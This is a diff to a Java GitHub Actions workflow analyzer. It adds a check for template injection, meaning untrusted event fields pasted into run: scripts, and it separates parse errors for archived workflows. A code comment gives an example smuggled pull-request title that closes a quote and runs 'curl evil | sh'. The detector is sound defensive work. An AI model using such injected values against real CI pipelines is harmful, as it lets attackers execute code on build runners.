@@ -41,6 +41,17 @@ public final class WorkflowAnalyzer {
     private static final Pattern REDIRECT = Pattern.compile("(?<!>)>>?+\\s*+(\\S+)");
     private static final Pattern RUNNER_FILE = Pattern.compile("\"?\\$\\{?GITHUB_(ENV|OUTPUT|STEP_SUMMARY|PATH)\\b.*|/dev/null.*");
     private static final Pattern PINNED = Pattern.compile("@[0-9a-f]{40}$");
+    /**
+     * An expression in a run: script is pasted into the script text before the shell sees it, so
+     * a pull request title like {@code a"; curl evil | sh; "} runs. Event fields that are numbers,
+     * ids or commit SHAs cannot carry code and are not reported.
+     */
+    static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{(.*?)}}");
+    static final Pattern UNTRUSTED = Pattern.compile(
+            "(?<![\\w.])(github\\.event\\.[\\w.*\\[\\]'-]+|github\\.head_ref|inputs\\.[\\w-]+|github\\.event\\[[^]]+][\\w.\\[\\]'-]*)");
+    static final Pattern SAFE_EVENT_FIELD = Pattern.compile(
+            "(?i).*(\\.|_)(number|id|sha|before|after|run_id|run_number|run_attempt|size|draft|merged|forced|created|deleted"
+                    + "|default_branch_only|private|fork|stargazers_count|ref_type)$");
     private static final Pattern FLOATING = Pattern.compile("(?i)latest|\\*|x|stable|lts/\\*|node|current");
 
     private WorkflowAnalyzer() {
@@ -49,8 +60,8 @@ public final class WorkflowAnalyzer {
     public static Report analyze(WorkflowSet set) {
         List<Finding> findings = new ArrayList<>();
         for (WorkflowSet.Failure f : set.failures()) {
-            findings.add(finding(WorkflowRule.PARSE_ERROR, f.path(), Math.max(1, f.line()), null,
-                    WorkflowRule.PARSE_ERROR.title() + ": " + f.problem(), f.path()));
+            WorkflowRule rule = f.archived() ? WorkflowRule.ARCHIVED_PARSE_ERROR : WorkflowRule.PARSE_ERROR;
+            findings.add(finding(rule, f.path(), Math.max(1, f.line()), null, rule.title() + ": " + f.problem(), f.path()));
         }
         Map<String, Purpose> purposes = new LinkedHashMap<>();
         for (Workflow w : set.workflows()) {
@@ -190,6 +201,7 @@ public final class WorkflowAnalyzer {
 
     private static void script(String path, Workflow.Step step, String where, List<Finding> out) {
         String[] lines = step.run().split("\n", -1);
+        injection(path, step, where, lines, out);
         int failureBranchUntil = -1;
         boolean errexitOff = false;
         for (int i = 0; i < lines.length; i++) {
@@ -234,6 +246,32 @@ public final class WorkflowAnalyzer {
                 out.add(finding(WorkflowRule.SECRET_EXPOSED, path, lineNo, ref.group(1),
                         "secrets." + ref.group(1) + (toFile ? " is written to a file" : " is echoed to the log"),
                         where + ":" + ref.group(1)));
+            }
+        }
+    }
+
+    static boolean untrusted(String ctx) {
+        return !(ctx.startsWith("github.event") && SAFE_EVENT_FIELD.matcher(ctx).matches());
+    }
+
+    /** zizmor's template-injection: an attacker-controlled expression inside a run: script, one finding per line. */
+    private static void injection(String path, Workflow.Step step, String where, String[] lines, List<Finding> out) {
+        for (int i = 0; i < lines.length; i++) {
+            Matcher e = EXPRESSION.matcher(lines[i]);
+            List<String> found = new ArrayList<>();
+            while (e.find()) {
+                Matcher u = UNTRUSTED.matcher(e.group(1));
+                while (u.find()) {
+                    String ctx = u.group(1);
+                    if (untrusted(ctx) && !found.contains(ctx)) {
+                        found.add(ctx);
+                    }
+                }
+            }
+            if (!found.isEmpty()) {
+                out.add(finding(WorkflowRule.TEMPLATE_INJECTION, path, step.runLine() + i, found.get(0),
+                        stepLabel(step) + ": ${{ " + String.join(" }}, ${{ ", found) + " }} pasted into the run: script",
+                        where + ":inject:" + String.join(",", found)));
             }
         }
     }
